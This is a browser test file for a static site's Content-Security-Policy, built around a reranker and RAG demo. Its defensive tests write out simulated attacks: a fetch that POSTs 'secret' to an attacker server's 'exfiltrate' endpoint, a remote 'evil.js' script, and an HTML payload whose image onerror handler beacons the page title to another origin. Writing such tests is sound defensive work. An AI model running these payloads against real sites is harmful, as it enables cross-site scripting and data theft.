/**
 * The Content-Security-Policy of the built site (scripts/csp.ts), as a static host serves it: the policy only in the
 * pages' `<meta>`, under a sub-path, cross-origin isolated (so onnxruntime starts its wasm threads). Normal use of the
 * app and the RAG page trips no rule; an injected script, a fetch to another origin and a hostile document's image and
 * handler are refused and reported (Trusted Types first, the fetch directives behind them), and a second server,
 * standing for the attacker's, hears nothing.
 * The dev and preview servers' header: csp-servers.test.ts.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { contentSecurityPolicy, metaPolicy } from '../../scripts/csp.ts';
import { chromiumSkipReason, launchChromium } from '../../tools/browser/harness.ts';
import { buildSite, serveSite, type StaticSite } from '../../tools/browser/site.ts';
import { openApp, type AppPage } from './app-page.ts';
import { startOtherOrigin, watchPolicy, type OtherOrigin, type PolicyWatch } from './csp-page.ts';

const skip = chromiumSkipReason();

/** The part of the Trusted Types API the tests call in the page (TypeScript's DOM library does not declare it). */
interface TrustedTypesForTests {
  createPolicy(name: string, rules: Record<string, (input: string) => string>): {
    createHTML(input: string): unknown;
    createScript(input: string): unknown;
    createScriptURL(input: string): unknown;
  };
}

describe.skipIf(skip !== null)('the Content-Security-Policy of the built site', () => {
  let dir: string;
  let site: StaticSite;
  let other: OtherOrigin;
  let browser: Browser;
  let app: AppPage;
  let csp: PolicyWatch;

  beforeAll(async () => {
    dir = await buildSite();
    site = await serveSite(dir, { base: '/demo/', isolate: true });
    other = await startOtherOrigin();
    browser = await launchChromium();
  }, 180_000);

  afterAll(async () => {
    await browser?.close();
    await site?.close();
    await other?.close();
  });

  afterEach((context) => {
    if (context.task.result?.state === 'fail') console.log([...(app?.logs.slice(-40) ?? []), ...(csp?.refusals ?? [])].join('\n'));
  });

  it('index.html and rag.html carry the policy in a <meta>, before any script or stylesheet', () => {
    for (const name of ['index.html', 'rag.html']) {
      const html = fs.readFileSync(path.join(dir, name), 'utf8');
      expect(metaPolicy(html), name).toBe(contentSecurityPolicy());
      const at = html.indexOf('http-equiv="Content-Security-Policy"');
      for (const later of ['<script', '<link rel="stylesheet"', '<link rel="modulepreload"']) {
        if (html.includes(later)) expect(at, `${name}: ${later}`).toBeLessThan(html.indexOf(later));
      }
    }
    // No relaxation beyond what scripts/csp.ts says each source is for.
    expect(contentSecurityPolicy()).not.toMatch(/unsafe-inline|'unsafe-eval'|blob:|\*(?!\.)/);
  });

  it('lets the page reach the hub and the CDNs it redirects model files to, and no look-alike', async () => {
    // No real network: every name fails to resolve, so an allowed fetch fails quietly and a refused one is reported.
    const offline = await launchChromium(['--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1']);
    try {
      const page = await offline.newPage();
      const watch = await watchPolicy(page);
      await page.goto(site.url);
      const hosts = ['huggingface.co', 'cdn-lfs.huggingface.co', 'cdn-lfs-us-1.hf.co', 'cas-bridge.xethub.hf.co', 'us.aws.cdn.hf.co'];
      const lookalikes = ['https://huggingface.co.evil.example/x', 'https://evilhf.co/x', 'http://huggingface.co/x', 'https://hf.co.example/x'];
      await page.evaluate((urls) => Promise.all(urls.map((u) => fetch(u).catch(() => null))), [...hosts.map((h) => `https://${h}/x`), ...lookalikes]);
      // Reports arrive as tasks: wait for them, then no more than these.
      await expect.poll(async () => (await watch.violations()).map((v) => `${v.directive} ${v.blocked}`).sort())
        .toEqual(lookalikes.map((u) => `connect-src ${u}`).sort());
    } finally {
      await offline.close();
    }
  });

  it('the app under the policy: load (wasm threads), rerank with score bars, sweep, export, a self-hosted URL: nothing refused', async () => {
    app = await openApp(browser, site.url);
    csp = await watchPolicy(app.page);
    await app.page.reload(); // now watched from its first script on
    const { page: p } = app;
    expect(await p.evaluate(() => crossOriginIsolated)).toBe(true);

    await app.loadDemo();
    expect(await p.getByTestId('info-backend').textContent()).toMatch(/^wasm \((\d+) threads?\)$/);
    const threads = Number(/\((\d+)/.exec((await p.getByTestId('info-backend').textContent())!)![1]);
    expect(threads).toBe(await p.evaluate(() => navigator.hardwareConcurrency));
    await app.rerank();
    // The bars' widths are set through the CSSOM: under style-src 'self' a style attribute would be refused (width auto).
    const bars = await p.locator('rerank-results .bar').evaluateAll((els) => els.map((e) => {
      const track = e.parentElement!.getBoundingClientRect().width;
      return { score: Number(e.closest('li')!.getAttribute('data-score')), share: e.getBoundingClientRect().width / track };
    }));
    expect(bars.length).toBeGreaterThan(0);
    for (const bar of bars) expect(bar.share).toBeCloseTo(bar.score, 2);

    await p.getByTestId('sweep-batch-sizes').fill('1, 2');
    await p.getByTestId('sweep-pairs').fill('4');
    await p.getByTestId('sweep-warmup').fill('0');
    await p.getByTestId('sweep-repeats').fill('1');
    await p.getByTestId('sweep-button').click();
    await app.waitStatus('sweep-status', 'done', 120_000);
    for (const button of ['sweep-csv', 'sweep-json']) {
      const download = p.waitForEvent('download');
      await p.getByTestId(button).click();
      expect(fs.readFileSync((await (await download).path())!, 'utf8'), button).toMatch(/batch/i);
    }

    // A self-hosted model folder (the site's own origin): typed as a URL, loaded, reranked.
    await p.getByTestId('source-url').check();
    await p.getByTestId('model-url').fill(`${site.url}models/tiny-random-bge-reranker/`);
    await p.getByTestId('load-button').click();
    await app.waitStatus('model-status', 'ready');
    await app.rerank();

    expect(await csp.violations()).toEqual([]);
    expect(csp.refusals).toEqual([]);
    expect(app.problems.filter((x) => !/Lit is in dev mode/.test(x.text))).toEqual([]);
  }, 240_000);

  it('the RAG page under the policy: retrieve, rerank, show the top 5: nothing refused', async () => {
    const page = await browser.newPage();
    const watch = await watchPolicy(page);
    try {
      expect((await page.goto(`${site.url}rag.html`))?.ok()).toBe(true);
      await page.getByTestId('rag-ask').click();
      await expect.poll(() => page.getByTestId('rag-hit').count(), { timeout: 60_000 }).toBe(5);
      expect(await page.getByTestId('rag-error').count()).toBe(0);
      expect(await watch.violations()).toEqual([]);
      expect(watch.refusals).toEqual([]);
    } finally {
      await page.close();
    }
  });

  it('refuses and reports an injected inline script, a script from another origin, and a fetch to another origin', async () => {
    const page = await browser.newPage();
    const watch = await watchPolicy(page);
    try {
      await page.goto(site.url);
      const outcome = await page.evaluate(async (otherUrl) => {
        const w = window as unknown as { __ran?: string; trustedTypes: TrustedTypesForTests };
        const attempt = (step: () => void) => {
          try {
            step();
            return 'done';
          } catch (error) {
            return (error as Error).name;
          }
        };
        // Trusted Types refuse the plain strings; a policy that vouches for anything stands for a bug that got past them.
        const bug = w.trustedTypes.createPolicy('a-bug', { createScript: (s: string) => s, createScriptURL: (s: string) => s });
        const inline = document.createElement('script');
        const inlineText = attempt(() => { inline.textContent = 'window.__ran = "inline"'; });
        inline.textContent = bug.createScript('window.__ran = "inline"') as unknown as string;
        document.body.append(inline);
        const remote = document.createElement('script');
        const remoteSrc = attempt(() => { remote.src = `${otherUrl}evil.js`; });
        const remoteDone = new Promise((resolve) => { remote.onerror = () => resolve('error'); remote.onload = () => resolve('loaded'); });
        remote.src = bug.createScriptURL(`${otherUrl}evil.js`) as unknown as string;
        document.body.append(remote);
        const fetched = await fetch(`${otherUrl}exfiltrate?q=secret`, { method: 'POST', body: 'secret' }).then(() => 'sent', (e: Error) => e.name);
        return { inlineText, remoteSrc, ran: w.__ran ?? null, remote: await remoteDone, fetched };
      }, other.url);
      expect(outcome).toEqual({ inlineText: 'TypeError', remoteSrc: 'TypeError', ran: null, remote: 'error', fetched: 'TypeError' });
      const seen = async () => (await watch.violations()).map((v) => `${v.disposition} ${v.directive} ${v.blocked.replace(/\?.*/, '')}`).sort();
      await expect.poll(seen).toEqual([
        `enforce connect-src ${other.url}exfiltrate`,
        'enforce require-trusted-types-for trusted-types-sink',
        'enforce require-trusted-types-for trusted-types-sink',
        `enforce script-src-elem ${other.url}evil.js`,
        'enforce script-src-elem inline',
      ]);
      expect(other.requests).toEqual([]);
    } finally {
      await page.close();
    }
  });

  it('a document that tries to send itself away: shown as text it does nothing; parsed as HTML its image and handler are refused', async () => {
    const hostile = [
      `<img src="${other.url}pixel?doc=1" onerror="fetch('${other.url}beacon?' + document.title)">`,
      `<iframe src="${other.url}frame"></iframe><link rel="stylesheet" href="${other.url}style.css">`,
    ];
    const hostileApp = await openApp(browser, site.url);
    const watch = await watchPolicy(hostileApp.page);
    await hostileApp.page.reload();
    try {
      await hostileApp.loadDemo();
      await hostileApp.setDocuments('which document is safe?', hostile);
      await hostileApp.rerank();
      expect(await hostileApp.page.getByTestId('results-list').textContent()).toContain(hostile[0]);
      expect(await watch.violations()).toEqual([]); // as text, nothing to refuse
      expect(watch.refusals).toEqual([]);

      // A rendering bug that parses a document as HTML: Trusted Types refuse the string. One that goes through a
      // policy (as Lit's unsafeHTML would): the markup lands, and the fetch directives refuse what it asks for.
      const parsed = await hostileApp.page.evaluate((html) => {
        const box = document.createElement('div');
        document.body.append(box);
        let plain = 'parsed';
        try {
          box.innerHTML = html.join('');
        } catch (error) {
          plain = (error as Error).name;
        }
        const bug = (window as unknown as { trustedTypes: TrustedTypesForTests }).trustedTypes.createPolicy('a-rendering-bug', { createHTML: (s: string) => s });
        box.innerHTML = bug.createHTML(html.join('')) as unknown as string;
        return { plain, elements: box.querySelectorAll('img, iframe, link').length };
      }, hostile);
      expect(parsed).toEqual({ plain: 'TypeError', elements: 3 });
      await expect.poll(async () => (await watch.violations()).map((v) => v.directive).sort(), { timeout: 10_000 })
        .toEqual(['frame-src', 'img-src', 'require-trusted-types-for', 'script-src-attr', 'style-src-elem']);
      expect(other.requests).toEqual([]);
    } finally {
      await hostileApp.page.close();
    }
  }, 120_000);
});
